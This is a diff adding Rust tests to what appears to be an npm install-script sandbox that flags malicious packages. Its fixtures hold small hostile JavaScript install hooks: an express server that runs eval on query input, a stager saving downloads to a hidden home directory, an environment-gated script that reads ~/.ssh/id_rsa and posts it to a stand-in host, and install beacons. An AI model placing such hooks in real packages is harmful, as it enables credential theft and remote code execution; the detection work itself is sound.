@@ -724,3 +724,186 @@ fn a_record_turned_into_a_trap_is_tampering() {
         "{report:#?}"
     );
 }
+
+/// A server started at install, through a web framework the sandbox stubs (the
+/// stand-in's `listen` opens a real socket) or through Node's own `http`: open to
+/// other machines it quarantines, on loopback alone it warns.
+#[test]
+fn a_server_started_at_install_is_seen() {
+    let backdoor = sandboxed(
+        PackageBuilder::new("eval-server-shape", "1.0.0")
+            .dependency("express", "^4.0.0")
+            .script("preinstall", "node index.js")
+            .file(
+                "index.js",
+                r#"const app = require("express")();
+app.get("/", (req, res) => res.send(String(eval(req.query.q))));
+app.listen(8080, () => console.log("listening"));
+"#,
+            ),
+    );
+    assert!(
+        backdoor
+            .observations
+            .iter()
+            .any(|observation| matches!(observation, Observation::Listened { port: 8080, .. })),
+        "{backdoor:#?}"
+    );
+    assert_eq!(
+        fired(&backdoor, "runtime-listen"),
+        Some(Severity::High),
+        "{backdoor:#?}"
+    );
+    let local = sandboxed(
+        PackageBuilder::new("local-server-shape", "1.0.0")
+            .script("postinstall", "node serve.js")
+            .file(
+                "serve.js",
+                r#"const server = require("http").createServer((req, res) => res.end("ok"));
+server.listen(43117, "127.0.0.1", () => server.close());
+"#,
+            ),
+    );
+    assert_eq!(
+        fired(&local, "runtime-listen-local"),
+        Some(Severity::Medium),
+        "{local:#?}"
+    );
+    assert_eq!(fired(&local, "runtime-listen"), None, "{local:#?}");
+}
+
+/// A first stage that saves what a server sends where no installer keeps a
+/// download (a dot-directory of its own in the home directory) quarantines; the
+/// same download into a cache does not.
+#[test]
+fn a_download_kept_outside_the_caches_is_a_stage() {
+    let script = |dir: &str| {
+        format!(
+            r#"const fs = require("fs"), os = require("os"), path = require("path");
+const dir = path.join(os.homedir(), "{dir}");
+fs.mkdirSync(dir, {{ recursive: true }});
+fetch("https://prices.stage-shape.example/api/price").then((r) => r.text())
+  .then((body) => fs.writeFileSync(path.join(dir, "price"), body)).catch(() => {{}});
+"#
+        )
+    };
+    let staged = sandboxed(
+        PackageBuilder::new("price-stage-shape", "1.0.0")
+            .script("preinstall", "node lib/server.js")
+            .file("lib/server.js", script(".price-shape")),
+    );
+    assert_eq!(
+        fired(&staged, "runtime-download-kept"),
+        Some(Severity::High),
+        "{staged:#?}"
+    );
+    let cached = sandboxed(
+        PackageBuilder::new("cached-download-shape", "1.0.0")
+            .script("postinstall", "node lib/server.js")
+            .file("lib/server.js", script(".cache/cached-download-shape")),
+    );
+    assert_eq!(fired(&cached, "runtime-download-kept"), None, "{cached:#?}");
+}
+
+/// Code that acts only when an environment variable is set runs once more with
+/// the variables it looked for set: a key stealer behind `process.env.demo` is
+/// seen, and says which variables the run set.
+#[test]
+fn a_stealer_behind_an_environment_variable_is_seen() {
+    let report = sandboxed(
+        PackageBuilder::new("env-gated-shape", "1.0.0")
+            .script("postinstall", "node postinstall.js")
+            .file(
+                "postinstall.js",
+                r#"const fs = require("fs"), os = require("os"), https = require("https");
+// Written and deleted as scripts do: the watch on the environment lets both through.
+process.env["NODE_TLS_REJECT_UNAUTHORIZED"] = 0;
+process.env.GATED_SHAPE_SCRATCH = "x";
+delete process.env.GATED_SHAPE_SCRATCH;
+if (process.env.demo) {
+  const key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa", "utf8");
+  const request = https.request({ host: "collect.gated-shape.example", method: "POST", path: "/s" }, () => {});
+  request.on("error", () => {}); request.end(key);
+} else {
+  console.log("Nothing to do");
+}
+"#,
+            ),
+    );
+    assert_eq!(report.variables_set, ["demo"], "{report:#?}");
+    assert_eq!(
+        strongest(&report, Code::RuntimeCredentialRead),
+        Some(Severity::Critical),
+        "{report:#?}"
+    );
+    assert!(
+        report
+            .findings
+            .iter()
+            .any(|finding| finding.message.starts_with("with demo set")),
+        "{report:#?}"
+    );
+    // A script that reads nothing unset runs twice, as before.
+    let plain = sandboxed(
+        PackageBuilder::new("env-plain-shape", "1.0.0")
+            .script("postinstall", "node -e \"console.log(process.env.HOME)\""),
+    );
+    assert!(plain.variables_set.is_empty(), "{plain:#?}");
+}
+
+/// Installers download; a script that posts a description of the machine, or
+/// reports the install with the package's name in a query string, quarantines.
+/// A download whose query names only the platform (as binary downloaders ask)
+/// does not.
+#[test]
+fn install_reports_and_uploads_quarantine() {
+    let posted = sandboxed(
+        PackageBuilder::new("tracker-shape", "1.0.0")
+            .script("preinstall", "node index.js preinstall")
+            .file(
+                "index.js",
+                r#"const http = require("http");
+const payload = { versions: process.versions, platform: process.platform, arch: process.arch, type: process.argv[2] };
+const request = http.request({ hostname: "track.bait-shape.example", path: "/track", method: "POST" }, () => {});
+request.on("error", () => {}); request.write(JSON.stringify(payload)); request.end();
+"#,
+            ),
+    );
+    assert_eq!(
+        fired(&posted, "runtime-upload"),
+        Some(Severity::High),
+        "{posted:#?}"
+    );
+    let reported = sandboxed(
+        PackageBuilder::new("typo-report-shape", "6.9.2")
+            .script("preinstall", "node scripts/preinstall.js")
+            .file(
+                "scripts/preinstall.js",
+                r#"const query = "p1=typo-report-shape&p2=report-shape&p4=" + encodeURIComponent(process.version + " " + process.platform);
+require("http").get("http://stats.thesis-shape.example/?" + query, () => process.exit(0)).on("error", () => process.exit(0));
+"#,
+            ),
+    );
+    assert_eq!(
+        fired(&reported, "runtime-install-report"),
+        Some(Severity::High),
+        "{reported:#?}"
+    );
+    let download = sandboxed(
+        PackageBuilder::new("binary-download-shape", "13.6.0")
+            .script("postinstall", "node install.js")
+            .file(
+                "install.js",
+                r#"const url = "https://download.binary-shape.example/desktop/13.6.0?platform=" + process.platform + "&arch=" + process.arch;
+fetch(url).then((r) => r.arrayBuffer()).catch(() => {});
+"#,
+            ),
+    );
+    assert!(
+        download
+            .findings
+            .iter()
+            .all(|finding| finding.severity <= Severity::Medium),
+        "{download:#?}"
+    );
+}
